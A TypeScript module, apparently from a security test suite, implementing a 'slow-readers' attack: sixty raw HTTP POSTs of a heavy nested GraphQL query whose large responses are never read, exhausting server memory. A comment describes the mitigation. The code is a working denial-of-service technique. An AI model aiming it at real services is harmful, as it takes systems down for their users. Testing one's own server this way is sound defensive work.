import { connect } from 'node:net';
import type { Attack } from '../attack.ts';
import type { Caller, Reply } from '../caller.ts';
import { holderOfLargeSweep } from './largeSweep.ts';

/**
 * Sixty requests for an answer of megabytes that nobody reads: each waits in memory until its reader takes it. A mend
 * bounds what an answer holds, and cuts off who does not read.
 */
export const slowReaders: Attack = {
  name: 'slow-readers',
  finding: 'kind of security 8',
  prepare: async (stage) => {
    const { writer, sweepId: id } = await holderOfLargeSweep(stage);
    const query = `query ($id: ID!) { sweep(id: $id) { runs(first: 100) { nodes { id batchSize seed status outcome step
      sweep { id name number runs(first: 100) { nodes { id batchSize seed } } } } } } }`;
    const body = JSON.stringify({ query, variables: { id } });
    return {
      fire: async (answered, until) => {
        await Promise.all(Array.from({ length: 60 }, () => neverRead(writer, body, until).then(answered)));
      },
    };
  },
};

function neverRead({ origin, address, headers }: Caller, body: string, until: AbortSignal): Promise<Reply> {
  const { hostname, port } = new URL(origin);
  const start = performance.now();
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
    const end = (code: string) => {
      socket.destroy();
      resolve({ status: 0, code, text: '', cookies: [], milliseconds: performance.now() - start });
    };
    const lines = [
      'POST /graphql HTTP/1.1',
      `Host: ${hostname}:${port}`,
      'Content-Type: application/json',
      `Content-Length: ${Buffer.byteLength(body)}`,
      ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`),
    ];
    // Nothing listens for data: the socket fills up.
    socket.write(`${lines.join('\r\n')}\r\n\r\n${body}`);
    socket.on('error', (fault) => end((fault as { code?: string }).code ?? fault.message));
    socket.on('close', () => end('cut off'));
    until.addEventListener('abort', () => end('still open'));
  });
}
